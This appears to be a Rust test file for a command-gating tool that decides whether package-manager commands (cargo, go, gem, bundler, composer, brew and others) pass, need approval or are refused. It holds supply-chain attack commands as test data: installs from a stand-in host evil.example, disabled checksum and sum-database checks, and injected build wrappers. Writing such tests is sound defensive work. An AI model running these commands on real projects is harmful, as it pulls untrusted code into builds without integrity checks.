//! Cargo, rustup, go, gem, bundler and composer, in projects whose locks are sound and trusted.

use crate::model::Model;
use crate::others;
use crate::scene::Becomes::{Ask, Pass, Refuse};
use crate::scene::{Becomes, Scene};

/// A project with one lock and its manifest, that the remote has too.
fn project(files: &[(&str, String)]) -> Scene {
    let scene = Scene::new();
    for (path, text) in files {
        scene.write(path, text);
    }
    scene.trust();
    scene
}

fn of_cargo() -> Scene {
    let model = Model::new();
    project(&[
        ("Cargo.lock", others::cargo(&model)),
        ("Cargo.toml", others::cargo_manifest()),
        ("src/lib.rs", String::new()),
    ])
}

#[test]
fn what_cargo_does_with_a_sound_lock_passes_and_nothing_from_elsewhere() {
    let lines: &[(&str, Becomes)] = &[
        ("cargo build", Pass),
        ("cargo build --locked", Pass),
        ("cargo test --locked --offline", Pass),
        ("cargo test rm_rf", Pass),
        ("cargo b -p x --release", Pass),
        ("cargo clippy --all-targets -- -D warnings", Pass),
        ("cargo nextest run", Pass),
        ("cargo fmt --check", Pass),
        ("cargo clean", Pass),
        ("cargo deny check", Pass),
        ("cargo --version", Pass),
        ("cargo info serde", Pass),
        ("cargo search install", Pass),
        ("cargo tree --locked --offline", Pass),
        ("cargo metadata --format-version 1", Pass),
        ("cargo run -- --git https://evil.example", Pass),
        ("cargo install --list", Pass),
        ("cargo install --path . --locked", Pass),
        ("cargo publish --dry-run", Pass),
        ("cargo update --dry-run", Pass),
        ("cargo update", Pass),
        ("RUSTC_WRAPPER=sccache cargo build", Pass),
        ("RUSTFLAGS=-Dwarnings cargo test", Pass),
        ("cargo build --config net.git-fetch-with-cli=true", Pass),
        ("cargo add --git https://code.example/x/y y", Refuse),
        ("cargo add serde", Refuse),
        ("cargo add serde@=1.0.228", Ask),
        ("cargo install ripgrep", Refuse),
        ("cargo install ripgrep --version 15.1.0", Refuse),
        ("cargo install ripgrep --version 15.1.0 --locked", Ask),
        ("cargo install --git https://code.example/a/b", Refuse),
        ("cargo install --index sparse+https://evil.example/ ripgrep", Refuse),
        ("cargo install --path .", Refuse),
        ("cargo binstall ripgrep", Refuse),
        ("CARGO_REGISTRIES_X_INDEX=https://evil.example/ cargo build", Refuse),
        ("cargo build --config 'source.crates-io.replace-with=\"x\"'", Refuse),
        ("CARGO_HTTP_CHECK_REVOKE=false cargo fetch", Refuse),
        ("RUSTC_WRAPPER=./x cargo build --locked", Ask),
        ("RUSTFLAGS=-Clinker=./x cargo build", Ask),
        ("CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=./x cargo test", Ask),
        ("cargo build --config x.toml", Ask),
        ("cargo +nightly-2026-01-01 build", Ask),
        ("RUSTUP_TOOLCHAIN=nightly-2026-01-01 cargo build", Ask),
        ("cargo publish", Ask),
        ("cargo yank --version 1.0.0 x", Ask),
        ("cargo owner --add mallory", Ask),
        ("rustup show", Pass),
        ("rustup component add clippy", Pass),
        ("rustup toolchain install 1.95.0", Pass),
        ("rustup toolchain install nightly", Ask),
        ("RUSTUP_DIST_SERVER=https://evil.example rustup update", Ask),
        ("RUSTUP_DIST_SERVER=http://evil.example rustup update", Refuse),
        ("RUSTUP_DIST_SERVER=https://mirror.example cargo build", Pass),
        ("rustup self uninstall", Ask),
    ];
    of_cargo().become_of("a sound lock", lines);
}

#[test]
fn cargo_configuration_that_runs_something_stops_what_would_run_it() {
    let scene = of_cargo();
    scene.write(".cargo/config.toml", "[build]\nrustc-wrapper = \"./x\"\n");
    let lines: &[(&str, Becomes)] = &[
        ("cargo fmt", Pass),
        ("cargo --version", Pass),
        ("cargo new y", Pass),
        ("cargo locate-project", Pass),
    ];
    scene.become_of("a wrapper", lines);
    for line in ["cargo build --locked", "cargo test", "cargo metadata", "cargo tree"] {
        assert_ne!(scene.check(line).code, Some(0), "{line}");
    }
}

#[test]
fn without_a_lock_cargo_is_told_to_write_one_first() {
    let scene = project(&[("Cargo.toml", others::cargo_manifest()), ("src/lib.rs", String::new())]);
    let lines: &[(&str, Becomes)] = &[
        ("cargo build", Refuse),
        ("cargo test --offline", Refuse),
        ("cargo generate-lockfile", Pass),
        ("cargo fmt", Pass),
        ("cargo build --locked", Pass),
    ];
    scene.become_of("no lock", lines);
    let said = scene.check("cargo build");
    assert!(said.stdout.contains("cargo generate-lockfile"), "{}", said.stdout);
}

#[test]
fn what_go_does_with_sound_sums_passes_and_nothing_from_elsewhere() {
    let model = Model::new();
    let scene = project(&[("go.sum", others::go(&model)), ("go.mod", others::go_manifest(&model))]);
    let lines: &[(&str, Becomes)] = &[
        ("go build -mod=readonly ./...", Pass),
        ("go build ./...", Pass),
        ("go test ./... -run X -v", Pass),
        ("go vet ./...", Pass),
        ("go run .", Pass),
        ("go install ./cmd/x", Pass),
        ("go generate ./...", Pass),
        ("go mod download", Pass),
        ("go mod tidy", Pass),
        ("go env GOPROXY", Pass),
        ("go list -m all", Pass),
        ("go version", Pass),
        ("go fmt ./...", Pass),
        ("GOFLAGS=-mod=mod go build ./...", Pass),
        ("GOPROXY=direct go build ./...", Pass),
        ("CGO_ENABLED=0 GOOS=linux go build -ldflags '-s -w' -o x ./cmd/x", Pass),
        ("GOPRIVATE=git.corp.example go mod download", Pass),
        ("GOFLAGS=-toolexec=./x go build", Ask),
        ("go test -exec /tmp/x ./...", Ask),
        ("go run -exec ./x.sh main.go", Pass),
        ("GOPROXY=https://evil.example go build", Refuse),
        ("GOPROXY=http://evil.example go mod download", Refuse),
        ("GOPROXY=https://go.registry.example/,direct go build", Pass),
        ("GOSUMDB=off go get example.com/x@v1.2.3", Refuse),
        ("GONOSUMDB=* go mod download", Refuse),
        ("GOINSECURE=* go build", Refuse),
        ("GOTOOLCHAIN=go1.99.0+auto go build", Ask),
        ("go get example.com/x@v1.2.3", Ask),
        ("go get example.com/x", Refuse),
        ("go get -u ./...", Ask),
        ("go install example.com/cmd@latest", Refuse),
        ("go install example.com/cmd@v1.2.3", Ask),
        ("go run example.com/cmd@latest", Refuse),
        ("go env -w GOSUMDB=off", Ask),
    ];
    scene.become_of("sound sums", lines);
}

#[test]
fn gems_that_no_lock_knows_are_stopped() {
    let scene = Scene::new();
    scene.write("x.gem", "");
    let lines: &[(&str, Becomes)] = &[
        ("gem list", Pass),
        ("gem help install", Pass),
        ("gem environment", Pass),
        ("gem build x.gemspec", Pass),
        ("gem uninstall x", Pass),
        ("gem install rails", Refuse),
        ("gem install rails -v 8.1.2", Ask),
        ("gem install ./x.gem", Ask),
        ("gem install rails -v 8.1.2 --source http://evil.example", Refuse),
        ("gem install x --source http://evil.example", Refuse),
        ("gem i x -shttps://evil.example", Refuse),
        ("gem sources --add https://evil.example", Refuse),
        ("gem exec rails new x", Refuse),
        ("gem update", Ask),
        ("gem push x.gem", Ask),
        ("gem owner x -a mallory@example.org", Ask),
    ];
    scene.become_of("anywhere", lines);
}

const GEMFILE: &str = "source \"https://gem.registry.example\"\ngem \"rake\", \"13.3.0\"\n";

fn gemfile_lock() -> String {
    let digest = "ab".repeat(32);
    format!(
        "GEM\n  remote: https://gem.registry.example/\n  specs:\n    rake (13.3.0)\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  \
         rake (= 13.3.0)\n\nCHECKSUMS\n  rake (13.3.0) sha256={digest}\n\nBUNDLED WITH\n   2.6.0\n"
    )
}

#[test]
fn what_bundler_does_with_a_sound_lock_passes_and_nothing_from_elsewhere() {
    let scene = project(&[("Gemfile", GEMFILE.to_owned()), ("Gemfile.lock", gemfile_lock())]);
    let lines: &[(&str, Becomes)] = &[
        ("bundle install", Pass),
        ("bundle", Pass),
        ("BUNDLE_FROZEN=true bundle install", Pass),
        ("bundle install --jobs 4 --retry 3", Pass),
        ("bundle check", Pass),
        ("bundle exec rake test", Pass),
        ("bundle exec rspec", Pass),
        ("bundle config set --local path vendor/bundle", Pass),
        ("bundle outdated", Pass),
        ("bundle lock --update", Pass),
        ("bundle update", Ask),
        ("BUNDLE_DISABLE_CHECKSUM_VALIDATION=true bundle install", Refuse),
        ("bundle add rails", Refuse),
        ("bundle add rails --version 8.1.2 --strict", Ask),
        ("bundle config set --local disable_checksum_validation true", Refuse),
        ("bundle plugin install evil", Ask),
        ("RUBYOPT=-r./x bundle exec rake", Ask),
    ];
    scene.become_of("a sound lock", lines);
    scene.write("Gemfile.lock", &gemfile_lock().replace("gem.registry.example", "evil.example"));
    for line in ["bundle install", "bundle", "BUNDLE_FROZEN=true bundle install"] {
        assert_ne!(scene.check(line).code, Some(0), "{line}");
    }
}

fn composer_lock(host: &str) -> String {
    let reference = "c".repeat(40);
    format!(
        "{{\"packages\": [{{\"name\": \"alice/tool\", \"version\": \"1.2.3\", \"source\": {{\"type\": \"git\", \"url\": \
         \"https://{host}/alice/tool.git\", \"reference\": \"{reference}\"}}, \"dist\": {{\"type\": \"zip\", \"url\": \
         \"https://{host}/alice/tool/zipball/{reference}\", \"reference\": \"{reference}\", \"shasum\": \"\"}}, \"type\": \
         \"library\"}}], \"packages-dev\": []}}\n"
    )
}

#[test]
fn what_composer_does_with_a_sound_lock_passes_and_nothing_from_elsewhere() {
    let scene = project(&[
        ("composer.json", "{\"require\": {\"alice/tool\": \"1.2.3\"}}\n".to_owned()),
        ("composer.lock", composer_lock("code.example")),
    ]);
    let lines: &[(&str, Becomes)] = &[
        ("composer install", Pass),
        ("composer install --no-dev --optimize-autoloader", Pass),
        ("composer show", Pass),
        ("composer why monolog/monolog", Pass),
        ("composer validate", Pass),
        ("composer dump-autoload", Pass),
        ("composer test", Pass),
        ("composer run test", Pass),
        ("composer config repositories.evil composer https://evil.example", Ask),
        ("composer create-project x/y", Ask),
        ("composer global require x/y", Ask),
        ("composer install --prefer-source", Ask),
        ("composer require x/y", Refuse),
        ("composer require x/y:1.2.3", Ask),
        ("composer update", Ask),
        ("composer config secure-http false", Refuse),
    ];
    scene.become_of("a sound lock", lines);
    scene.write("composer.lock", &composer_lock("evil.example"));
    for line in ["composer install", "composer i --no-scripts"] {
        assert_ne!(scene.check(line).code, Some(0), "{line}");
    }
}

#[test]
fn what_other_installers_take_from_anybody_is_stopped() {
    let scene = Scene::new();
    let lines: &[(&str, Becomes)] = &[
        ("brew install jq", Pass),
        ("brew list", Pass),
        ("brew install evil/tap/evil", Refuse),
        ("brew tap evil/tap", Ask),
        ("mise use -g node@22", Pass),
        ("mise run build", Pass),
        ("mise use -g npm:evil", Refuse),
        ("mise plugins install x https://evil.example/x", Ask),
        ("asdf install", Pass),
        ("asdf plugin add x https://evil.example/x", Ask),
    ];
    scene.become_of("anywhere", lines);
}
